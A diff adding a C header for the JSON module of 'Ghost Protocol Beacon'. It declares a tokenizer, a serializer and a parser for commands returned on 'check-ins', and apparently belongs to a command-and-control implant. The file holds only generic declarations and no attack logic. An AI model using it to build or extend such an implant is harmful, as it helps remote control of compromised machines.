@@ -0,0 +1,83 @@
+/*
+ * Ghost Protocol Beacon - JSON Module
+ * Header file for the JSON tokenizer and serializer used on check-ins
+ */
+
+#ifndef JSON_H
+#define JSON_H
+
+#include "beacon.h"
+
+// Token types produced by the tokenizer
+typedef enum {
+    JSON_END = 0,
+    JSON_ERROR,
+    JSON_OBJECT_START,
+    JSON_OBJECT_END,
+    JSON_ARRAY_START,
+    JSON_ARRAY_END,
+    JSON_STRING,
+    JSON_NUMBER,
+    JSON_TRUE,
+    JSON_FALSE,
+    JSON_NULL
+} json_token_type_t;
+
+// Token view into the source buffer (strings exclude the quotes)
+typedef struct {
+    json_token_type_t type;
+    const char* start;
+    size_t length;
+    int has_escapes;
+} json_token_t;
+
+// Tokenizer state over a caller-owned buffer
+typedef struct {
+    const char* pos;
+    const char* end;
+} json_parser_t;
+
+// Growable output buffer for streaming serialization
+typedef struct {
+    char* data;
+    size_t length;
+    size_t capacity;
+    int error;
+    int depth;
+    int after_key;
+    unsigned int has_items;   // one bit per nesting level
+    arena_t* arena;           // backing arena, or NULL for the heap
+} json_writer_t;
+
+// Tokenizer functions
+void json_parser_init(json_parser_t* parser, const char* json, size_t length);
+json_token_type_t json_next_token(json_parser_t* parser, json_token_t* token);
+int json_skip_value(json_parser_t* parser, const json_token_t* first);
+int json_token_equals(const json_token_t* token, const char* literal);
+size_t json_token_copy(const json_token_t* token, char* output, size_t output_size);
+
+// Object helpers
+int json_get_string(const char* json, size_t length, const char* key, char* output, size_t output_size);
+
+// Writer functions
+int json_writer_init(json_writer_t* writer, size_t initial_capacity);
+int json_writer_init_arena(json_writer_t* writer, arena_t* arena, size_t initial_capacity);
+void json_writer_free(json_writer_t* writer);
+void json_writer_begin_object(json_writer_t* writer);
+void json_writer_end_object(json_writer_t* writer);
+void json_writer_begin_array(json_writer_t* writer);
+void json_writer_end_array(json_writer_t* writer);
+void json_writer_key(json_writer_t* writer, const char* key);
+void json_writer_string(json_writer_t* writer, const char* value);
+void json_writer_string_len(json_writer_t* writer, const char* value, size_t length);
+void json_writer_int(json_writer_t* writer, long value);
+void json_writer_int64(json_writer_t* writer, long long value);
+void json_writer_bool(json_writer_t* writer, int value);
+void json_writer_base64(json_writer_t* writer, const char* value, size_t length);
+long json_base64_decode(const char* input, size_t length, char* output);
+
+// Check-in response parsing
+int json_parse_commands(const char* json, size_t length, arena_t* arena,
+                        command_record_t** commands, int max_commands, long* ack);
+
+#endif // JSON_H